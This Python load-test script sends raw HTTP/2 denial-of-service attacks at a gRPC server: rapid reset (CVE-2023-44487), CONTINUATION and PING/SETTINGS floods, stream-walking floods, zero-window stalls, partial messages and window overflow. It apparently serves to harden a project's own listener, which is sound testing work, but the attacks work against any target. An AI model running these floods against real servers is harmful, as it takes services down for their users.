#!/usr/bin/env python3
"""Raw-socket HTTP/2 attacks on a gRPC server, for the Endpoint Picker's listener.

Each attack is one HTTP/2 client behaviour a hostile peer can adopt (RFC 9113 framing,
header blocks encoded by the ``hpack`` library); none imports specgate, so the same suite
can be pointed at any gRPC server (grpcio, the ``h2`` library, specgate's own):

- ``rapid_reset``: HEADERS + RST_STREAM, as fast as the socket takes them (CVE-2023-44487);
- ``continuation``: one HEADERS without END_HEADERS, then empty CONTINUATION frames forever
  (CVE-2024-27316 class);
- ``ping_flood`` / ``settings_flood``: PING or SETTINGS frames whose ACKs are never read;
- ``streams_settings`` / ``streams_window``: ``--streams`` open streams, then a flood of
  SETTINGS (INITIAL_WINDOW_SIZE changes) or connection WINDOW_UPDATEs, each of which a naive
  server answers by walking every stream;
- ``zero_window``: SETTINGS_INITIAL_WINDOW_SIZE=0, then one ext_proc stream in full-duplex
  mode for a request that is not an inference (its body passes through the EPP and back)
  with a body of ``--body-mb`` MB: every echoed chunk has to wait for a window that never opens;
- ``partial_messages``: ``--streams`` streams (default 100 here) each announcing a ~9 MB gRPC
  message and sending all of it but the last byte;
- ``window_overflow``: a stream's send window pushed past 2^31-1 by WINDOW_UPDATE
  (RFC 9113 §6.9.1: RST_STREAM FLOW_CONTROL_ERROR expected).

A connection the server closes is reopened (``--no-reconnect``: not) until ``--duration``
ends; each connection's open and close times (seconds from the attack's start), the GOAWAY
code it got and the frames it sent are reported as JSON. Attacks marked ``blind`` never read
from the socket (the server's ACKs pile up); the others read and drain what the server sends.

    python loadtests/epp_attack.py attack --target 127.0.0.1:9002 --attack rapid_reset \\
        --duration 15 --connections 16
    python loadtests/epp_attack.py run --attacks all --duration 10 --connections 1   # harness

``run`` (:mod:`epp_attack_harness`) starts ``python -m gateway serve`` with the EPP on
emulated engines, drives chat load on its HTTP port and runs each attack against it.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(10)
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
CANCEL, FLOW_CONTROL_ERROR = 0x8, 0x3
PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
GRPC_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PROCESS),
    (":authority", "epp"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
MAX_FRAME = 16_384
_U32 = struct.Struct(">I")


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, sid) + payload


def settings(pairs: dict[int, int] | None = None, flags: int = 0) -> bytes:
    body = b"".join(struct.pack(">HI", k, v) for k, v in (pairs or {}).items())
    return frame(SETTINGS, flags, 0, body)


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + _U32.pack(len(payload)) + payload


def data_frames(sid: int, payload: bytes, end: bool = False) -> bytes:
    parts = [payload[i : i + MAX_FRAME] for i in range(0, len(payload), MAX_FRAME)] or [b""]
    last = len(parts) - 1
    return b"".join(frame(DATA, END_STREAM if end and i == last else 0, sid, p) for i, p in enumerate(parts))


# -- a few protobuf fields: ext_proc ProcessingRequests, written without generated classes --
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _ld(num: int, payload: bytes) -> bytes:
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def _uint(num: int, value: int) -> bytes:
    return _varint(num << 3) + _varint(value)


def passthrough_headers() -> bytes:
    """ProcessingRequest.request_headers of a GET (not an inference: its body is passed
    through), the filter in FULL_DUPLEX_STREAMED mode (ProtocolConfiguration, field 11)."""
    hs = {":path": "/attack", ":method": "GET", ":authority": "gw", ":scheme": "http"}
    header_map = _ld(1, b"".join(_ld(1, _ld(1, k.encode()) + _ld(3, v.encode())) for k, v in hs.items()))
    return _ld(2, header_map) + _ld(11, _uint(1, 4))


def request_body(chunk: bytes, eos: bool = False) -> bytes:
    return _ld(4, _ld(1, chunk) + (_uint(2, 1) if eos else b""))


# -- one attacking connection ---------------------------------------------------------------
@dataclass
class ConnResult:
    opened_at: float
    closed_at: float | None = None  # the server closed it (GOAWAY seen, EOF, or a send failed)
    goaway: int | None = None
    frames: int = 0
    sent_bytes: int = 0
    stalled_s: float = 0.0  # time the server's TCP window kept our sends waiting
    rst_codes: dict[str, int] = field(default_factory=dict)  # RST_STREAMs received, by code
    error: str | None = None


class Conn:
    """A client socket: sends bursts, optionally reads (and parses) what the server sends."""

    def __init__(self, host: str, port: int, t0: float, *, read: bool) -> None:
        self.t0 = t0
        self.res = ConnResult(opened_at=time.monotonic() - t0)
        self.sock = socket.create_connection((host, port), timeout=5.0)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(0.5)
        self.closed = threading.Event()
        self.rst = threading.Event()
        self._closing = False  # we close it: not the server's doing
        self._reader = threading.Thread(target=self._read, daemon=True) if read else None
        if self._reader is not None:
            self._reader.start()

    def _mark_closed(self) -> None:
        if self.res.closed_at is None and not self._closing:
            self.res.closed_at = time.monotonic() - self.t0
        self.closed.set()

    def _read(self) -> None:
        buf = b""
        while not self.closed.is_set():
            try:
                chunk = self.sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                self._mark_closed()
                return
            if not chunk:
                self._mark_closed()
                return
            buf += chunk
            while len(buf) >= 9:
                n = buf[0] << 16 | buf[1] << 8 | buf[2]
                if len(buf) < 9 + n:
                    break
                kind, payload = buf[3], buf[9 : 9 + n]
                if kind == GOAWAY and len(payload) >= 8:
                    self.res.goaway = _U32.unpack_from(payload, 4)[0]
                    self._mark_closed()
                elif kind == RST_STREAM and len(payload) == 4:
                    code = str(_U32.unpack(payload)[0])
                    self.res.rst_codes[code] = self.res.rst_codes.get(code, 0) + 1
                    self.rst.set()
                buf = buf[9 + n :]

    def send(self, data: bytes, frames: int, deadline: float) -> bool:
        """Send ``data`` (``frames`` frames); False once the connection is gone or the time
        is up (a send the server's window holds back is retried until then)."""
        view = memoryview(data)
        while view:
            if self.closed.is_set() or time.monotonic() >= deadline:
                return False
            t = time.monotonic()
            try:
                n = self.sock.send(view)
            except TimeoutError:
                self.res.stalled_s += time.monotonic() - t
                continue
            except OSError as exc:
                self.res.error = type(exc).__name__
                self._mark_closed()
                return False
            view = view[n:]
            self.res.sent_bytes += n
        self.res.frames += frames
        return True

    def close(self) -> None:
        self._closing = True
        self.closed.set()
        with contextlib.suppress(OSError):
            self.sock.close()
        if self._reader is not None:
            self._reader.join(timeout=1.0)


# -- the attacks ----------------------------------------------------------------------------
Attack = Callable[[Conn, float, argparse.Namespace], None]


def _open_streams(c: Conn, n: int, deadline: float, *, first_sid: int = 1) -> int:
    """Open ``n`` gRPC streams (HEADERS, no END_STREAM); the next free stream id."""
    enc = hpack.Encoder()
    sid = first_sid
    c.send(frame(HEADERS, END_HEADERS, sid, enc.encode(GRPC_HEADERS)), 1, deadline)
    block = enc.encode(GRPC_HEADERS)  # indexed: valid while the table is unchanged
    sid += 2
    while sid < first_sid + 2 * n:
        k = min(256, (first_sid + 2 * n - sid) // 2)
        burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, block) for i in range(k))
        if not c.send(burst, k, deadline):
            break
        sid += 2 * k
    return sid


def rapid_reset(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    enc = hpack.Encoder()
    c.send(frame(HEADERS, END_HEADERS, 1, enc.encode(GRPC_HEADERS)), 1, deadline)
    block, sid = enc.encode(GRPC_HEADERS), 3
    rst = _U32.pack(CANCEL)
    while True:
        burst = b"".join(
            frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, rst)
            for s in range(sid, sid + 512, 2)
        )
        if not c.send(burst, 512, deadline):
            return
        sid += 512


def continuation(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    c.send(frame(HEADERS, 0, 1, hpack.Encoder().encode(GRPC_HEADERS)), 1, deadline)
    burst = frame(CONTINUATION, 0, 1) * 4096
    while c.send(burst, 4096, deadline):
        pass


def ping_flood(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    burst = frame(PING, 0, 0, b"attack!!") * 2048
    while c.send(burst, 2048, deadline):
        pass


def settings_flood(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    burst = settings({INITIAL_WINDOW_SIZE: 65_535}) * 2048
    while c.send(burst, 2048, deadline):
        pass


def streams_settings(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    _open_streams(c, a.streams, deadline)
    burst = (settings({INITIAL_WINDOW_SIZE: 65_536}) + settings({INITIAL_WINDOW_SIZE: 65_535})) * 512
    while c.send(burst, 1024, deadline):
        pass


def streams_window(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    _open_streams(c, a.streams, deadline)
    burst = frame(WINDOW_UPDATE, 0, 0, _U32.pack(1)) * 2048
    while c.send(burst, 2048, deadline):
        pass


def zero_window(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    c.send(settings({INITIAL_WINDOW_SIZE: 0}), 1, deadline)
    c.send(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(GRPC_HEADERS)), 1, deadline)
    c.send(data_frames(1, grpc_message(passthrough_headers())), 1, deadline)
    chunk = grpc_message(request_body(b"x" * (64 * 1024 - 16)))
    burst = data_frames(1, chunk)
    left = a.body_mb * 1024 * 1024
    while left > 0 and c.send(burst, 5, deadline):
        left -= len(chunk)
    with contextlib.suppress(Exception):  # hold the connection open, still not reading our window
        c.closed.wait(max(0.0, deadline - time.monotonic()))


def partial_messages(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    streams = a.streams if a.streams_set else 100
    size = 9 * 1024 * 1024
    enc = hpack.Encoder()
    filler = b"\x00" * MAX_FRAME
    for i in range(streams):
        sid = 1 + 2 * i
        if not c.send(frame(HEADERS, END_HEADERS, sid, enc.encode(GRPC_HEADERS)), 1, deadline):
            return
        body = b"\x00" + _U32.pack(size)
        left = size - 1 + 5 - len(body)
        first = body + filler[: MAX_FRAME - len(body)]
        if not c.send(frame(DATA, 0, sid, first), 1, deadline):
            return
        left -= MAX_FRAME - len(body)
        full = frame(DATA, 0, sid, filler)
        while left > 0:
            k = min(64, left // MAX_FRAME) or 1
            burst = full * k if left >= MAX_FRAME * k else frame(DATA, 0, sid, filler[:left])
            if not c.send(burst, k, deadline):
                return
            left -= min(left, MAX_FRAME * k)
    c.closed.wait(max(0.0, deadline - time.monotonic()))


def window_overflow(c: Conn, deadline: float, a: argparse.Namespace) -> None:
    c.send(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(GRPC_HEADERS)), 1, deadline)
    inc = frame(WINDOW_UPDATE, 0, 1, _U32.pack((1 << 31) - 1))
    c.send(inc + inc, 2, deadline)
    c.rst.wait(max(0.0, min(2.0, deadline - time.monotonic())))


# name -> (function, reads from the socket)
ATTACKS: dict[str, tuple[Attack, bool]] = {
    "rapid_reset": (rapid_reset, True),
    "continuation": (continuation, True),
    "ping_flood": (ping_flood, False),
    "settings_flood": (settings_flood, False),
    "streams_settings": (streams_settings, True),
    "streams_window": (streams_window, True),
    "zero_window": (zero_window, True),
    "partial_messages": (partial_messages, True),
    "window_overflow": (window_overflow, True),
}


def _worker(
    name: str, host: str, port: int, t0: float, deadline: float, a: argparse.Namespace, out: list[ConnResult]
) -> None:
    fn, read = ATTACKS[name]
    while time.monotonic() < deadline:
        try:
            c = Conn(host, port, t0, read=read)
        except OSError as exc:  # refused (a connection cap, or the server is down): retry
            out.append(
                ConnResult(
                    opened_at=time.monotonic() - t0,
                    closed_at=time.monotonic() - t0,
                    error=f"connect: {type(exc).__name__}",
                )
            )
            time.sleep(0.05)
            if not a.reconnect:
                return
            continue
        try:
            c.send(PREFACE + settings() + frame(WINDOW_UPDATE, 0, 0, _U32.pack(1 << 30)), 2, deadline)
            fn(c, deadline, a)
        finally:
            out.append(c.res)
            c.close()
        if not a.reconnect or name == "window_overflow":
            return


def run_attack(name: str, host: str, port: int, a: argparse.Namespace) -> dict[str, object]:
    """Run attack ``name`` from ``a.connections`` connections for ``a.duration`` seconds."""
    t0 = time.monotonic()
    deadline = t0 + a.duration
    results: list[list[ConnResult]] = [[] for _ in range(a.connections)]
    threads = [
        threading.Thread(target=_worker, args=(name, host, port, t0, deadline, a, results[i]), daemon=True)
        for i in range(a.connections)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(a.duration + 10)
    conns = [r for rs in results for r in rs]
    frames = sum(r.frames for r in conns)
    return {
        "attack": name,
        "connections": a.connections,
        "duration_s": a.duration,
        "frames": frames,
        "frames_per_s": frames / a.duration,
        "sent_mb": sum(r.sent_bytes for r in conns) / 1e6,
        "conns": [asdict(r) for r in conns],
    }


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    at = sub.add_parser("attack", help="attack a server at --target")
    at.add_argument("--target", required=True, help="host:port of the gRPC (HTTP/2 cleartext) server")
    at.add_argument("--attack", default="all", help=f"comma list of {', '.join(ATTACKS)}, or all")
    at.add_argument("--duration", type=float, default=15.0, help="seconds per attack (default 15)")
    at.add_argument("--connections", type=int, default=1, help="attacking connections (default 1)")
    at.add_argument(
        "--streams", type=int, default=None, help="streams opened (default 4000; 100 for partial)"
    )
    at.add_argument("--body-mb", type=int, default=800, help="zero_window: body size in MB (default 800)")
    at.add_argument("--no-reconnect", dest="reconnect", action="store_false")
    at.add_argument("--out", default=None, help="write the JSON results here (else stdout)")
    if len(sys.argv if argv is None else argv) > 1 and (sys.argv[1:] if argv is None else argv)[0] == "run":
        from epp_attack_harness import main as harness_main  # the harness imports specgate

        return harness_main(sys.argv[2:] if argv is None else argv[1:])
    a = p.parse_args(argv)
    a.streams_set = a.streams is not None
    a.streams = a.streams or 4000
    names = list(ATTACKS) if a.attack == "all" else a.attack.split(",")
    host, _, port = a.target.rpartition(":")
    out = [run_attack(n, host or "127.0.0.1", int(port), a) for n in names]
    text = json.dumps(out if len(out) > 1 else out[0], indent=1)
    if a.out:
        with open(a.out, "w") as fh:
            fh.write(text)
    else:
        print(text)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
